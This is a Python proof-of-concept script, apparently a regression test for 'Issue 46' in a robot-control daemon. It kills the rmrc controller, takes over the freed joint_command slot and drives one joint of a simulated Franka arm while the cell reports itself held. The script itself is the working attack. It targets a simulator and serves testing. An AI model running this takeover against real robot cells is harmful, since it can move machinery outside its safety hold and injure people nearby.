"""Issue 46's held-cell takeover, played by a process of the daemon's own user against a cell whose robot driver is
not vservo's simulated plant (scripts/run-franka-sim.sh --fault held-takeover: the Franka driver on franka-sim):
with the cell held, SIGKILL the rmrc, take the `joint_command` writer slot its death frees, and answer each joint
state with SPEED rad/s on JOINT (1-based), unsealed, for SECONDS. The arm is measured from the joint states the
driver publishes (the robot's own measured angles) over the attack and one second after it. Prints one JSON line:
what was sent, the largest displacement and speed of the joint, and whether the cell still said it was held.

usage: takeover_attack.py INSTANCE JOINT SPEED SECONDS
"""

import json
import os
import signal
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "..", "clients", "python"))

from vservo_client import Client  # noqa: E402
from vservo_driver import SCHEMA, VELOCITY, JointCommand, JointState  # noqa: E402

RMRC = 3  # the rmrc's place in the status's nodes (vservo::NodeRole)


def drain(subscriber):
    while True:
        sample = subscriber.receive()
        if sample is None:
            return
        yield JointState.from_buffer_copy(sample.payload().contents)


def main(instance, joint, speed, seconds):
    client = Client(instance)
    node = client.node
    commands = node.service_builder(client._service_name("joint_command")).publish_subscribe(JointCommand).open()
    states = node.service_builder(client._service_name("joint_state")).publish_subscribe(JointState).open()
    reader = states.subscriber_builder().create()
    latest = None
    until = time.monotonic() + 10.0
    while latest is None and time.monotonic() < until:
        for state in drain(reader):
            latest = state
        time.sleep(0.002)
    if latest is None:
        raise SystemExit("the premise: no joint state from the driver")
    start_q = latest.q_rad[joint - 1]
    held_before = client.status().state

    rmrc = client.status().nodes[RMRC].pid
    os.kill(rmrc, signal.SIGKILL)
    killed_at = time.monotonic()
    publisher = None
    while publisher is None:
        try:
            publisher = commands.publisher_builder().create()
        except Exception:  # the slot still held: by the dead rmrc's leftovers, then by its restart
            if time.monotonic() > killed_at + 2.0:
                raise
            time.sleep(0.0002)
    taken_after_s = time.monotonic() - killed_at
    sent = 0
    moved = 0.0
    fastest = 0.0
    answered = set()
    until = time.monotonic() + seconds
    while time.monotonic() < until + 1.0:
        for state in drain(reader):
            moved = max(moved, abs(state.q_rad[joint - 1] - start_q))
            fastest = max(fastest, abs(state.qd_rad_s[joint - 1]))
            if time.monotonic() < until and state.tick not in answered:
                command = JointCommand(schema=SCHEMA, mode=VELOCITY, joint_count=state.joint_count,
                                       answers_tick=state.tick, driver_epoch=state.driver_epoch,
                                       state_stamp_ns=state.stamp_ns, stamp_ns=time.monotonic_ns())
                command.qd_ref_rad_s[joint - 1] = speed
                publisher.send_copy(command)
                answered.add(state.tick)
                sent += 1
        time.sleep(0.0002)
    status = client.status()
    del publisher
    print(json.dumps({"attacker_pid": os.getpid(), "killed_rmrc": rmrc, "slot_taken_after_s": taken_after_s, "sent": sent,
                      "joint": joint, "commanded_rad_s": speed, "moved_rad": moved, "fastest_rad_s": fastest,
                      "state_before": held_before, "state_after": status.state,
                      "fault_after": status.fault}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]))
